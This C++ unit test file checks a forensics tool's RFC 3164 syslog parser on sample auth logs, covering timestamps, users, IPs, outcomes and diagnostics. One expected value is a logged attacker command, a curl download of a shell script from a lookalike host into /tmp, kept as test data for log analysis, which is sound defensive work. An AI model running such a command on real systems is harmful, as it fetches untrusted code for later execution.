#include "unit/logs/sample.hpp"

namespace casefile::logs {
namespace {

using testing::parse_sample;

TEST(Syslog3164, AuthLogWithYearAndZone) {
    ParseOptions options;
    options.default_zone = "UTC";
    options.default_year = 2025;
    const ParseResult r = parse_sample("syslog-3164", "auth.log", options);
    ASSERT_EQ(r.events.size(), 3u);
    EXPECT_TRUE(r.diagnostics.empty());
    const Event& failed = r.events[0];
    EXPECT_EQ(testing::utc(failed), "2025-11-11T13:45:12Z");
    EXPECT_EQ(failed.host_name, "bastion01");
    EXPECT_EQ(failed.process_name, "sshd");
    EXPECT_EQ(failed.process_pid, "23111");
    EXPECT_EQ(failed.user_name, "admin");
    EXPECT_EQ(failed.source_ip, "203.0.113.77");
    EXPECT_EQ(failed.event_outcome, "failure");
    EXPECT_EQ(r.events[1].event_outcome, "success");
    EXPECT_EQ(r.events[1].user_name, "deploy");
    EXPECT_EQ(r.events[2].process_command_line,
              "/usr/bin/curl -o /tmp/u.sh http://cdn-dropbox.io/u.sh");
}

TEST(Syslog3164, WithoutYearEventsAreUntimed) {
    const ParseResult r = parse_sample("syslog-3164", "with-pri.log");
    ASSERT_EQ(r.events.size(), 3u);
    EXPECT_FALSE(r.events[0].time.has_value());
    EXPECT_EQ(r.events[1].time_original, "Nov  1 08:00:00");
    EXPECT_EQ(testing::utc(r.events[2]), "2025-11-11T12:47:00.512345Z"); // RFC 3339 is exact
    ASSERT_EQ(r.diagnostics.size(), 1u);
    EXPECT_EQ(r.diagnostics[0].rule, "log-time-without-year");
    ASSERT_NE(r.events[0].field("syslog.facility"), nullptr);
    EXPECT_EQ(*r.events[0].field("syslog.facility"), "4");
}

TEST(Syslog3164, MarkLineIsADiagnostic) {
    const ParseResult r = parse_sample("syslog-3164", "malformed.log");
    ASSERT_EQ(r.events.size(), 2u);
    EXPECT_TRUE(testing::has_diagnostic_at(r, 2));
    EXPECT_EQ(r.events[1].source_port, 50124);
}

} // namespace
} // namespace casefile::logs
